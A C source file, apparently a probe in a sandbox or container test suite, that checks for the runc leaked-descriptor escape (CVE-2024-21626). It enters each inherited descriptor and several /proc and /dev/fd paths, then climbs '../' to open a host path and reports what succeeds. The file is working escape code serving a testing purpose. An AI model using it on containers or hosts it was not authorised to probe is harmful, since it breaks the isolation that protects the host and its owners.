/* fs_fd_cwd PATH - looks for an inherited descriptor of a directory (CVE-2024-21626): enters each
 * descriptor as a directory, by number and by its name in /proc, and goes from there to PATH of the
 * host. Prints which descriptors there are. */
#include <fcntl.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <unistd.h>

#include "../try.h"

static int climb(const char *path)
{
	char up[4200];

	for (int depth = 0; depth < 16; depth++) {
		int n = 0;

		for (int i = 0; i < depth; i++)
			n += snprintf(up + n, sizeof up - (size_t)n, "../");
		(void)snprintf(up + n, sizeof up - (size_t)n, "%s", path + 1);
		if (open(up, O_RDONLY) >= 0)
			return 0;
	}
	return -1;
}

int main(int argc, char **argv)
{
	static const char *const forms[] = { "/proc/self/fd/%d", "/proc/thread-self/fd/%d",
		                             "/dev/fd/%d",       "/proc/1/fd/%d",
		                             "/proc/1/cwd",      "/proc/1/root" };
	char name[64];

	(void)argc;
	for (int fd = 0; fd < 1024; fd++) {
		struct stat st;

		if (fstat(fd, &st) == 0)
			printf("fd %d mode %o\n", fd, st.st_mode & S_IFMT);
		if (fchdir(fd) == 0)
			report("fchdir", climb(argv[1]));
		for (size_t i = 0; i < sizeof forms / sizeof *forms; i++) {
			(void)snprintf(name, sizeof name, forms[i], fd);
			if (chdir(name) == 0) {
				report(name, 0);
				report("climb", climb(argv[1]));
			}
		}
	}
	report("end", -1);
	return 0;
}
